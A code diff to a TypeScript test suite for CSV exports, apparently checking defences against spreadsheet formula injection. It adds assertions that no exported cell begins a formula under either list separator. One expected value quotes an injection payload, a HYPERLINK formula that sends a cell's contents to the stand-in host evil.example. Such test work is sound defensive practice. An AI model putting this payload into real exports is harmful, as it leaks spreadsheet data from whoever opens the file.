@@ -10,7 +10,7 @@ import { validateCard } from '../support/cardValidation';
 import { LoopbackConnector } from '../support/loopbackConnector';
 import { memoryLogger } from '../support/silentLogger';
 import { postActivity, startTestApp } from '../support/testApp';
-import { parseCsv } from '../support/csvReader';
+import { parseCsv, parseCsvLeniently } from '../support/csvReader';
 
 type TestApp = Awaited<ReturnType<typeof startTestApp>>;
 type Card = Record<string, unknown>;
@@ -159,6 +159,13 @@ describe('CSV exports through /api/messages and GET /exports/:id (real restify, 
     // As written on the wire: the dangerous cell is quoted, and its quotes doubled.
     expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Pay now""), urgent"`);
     expect(text).toContain('"Month end, batch 2\nsecond line: ""approved by CFO"""');
+    // Opened where the list separator is ';' (or read loosely), no cell starts a formula either.
+    for (const separator of [',', ';']) {
+      for (const quotes of ['fieldStart', 'anywhere'] as const) {
+        const cells = parseCsvLeniently(text, { separator, quotes }).flat();
+        expect(cells.filter((cell) => /^[\s"]*[=+\-@]/.test(cell) && !/^[\s"]*[+-]?\d+(\.\d+)?$/.test(cell))).toEqual([]);
+      }
+    }
 
     // The same link works again until it expires (any instance could serve it: it is in the store).
     expect((await get(url)).status).toBe(200);
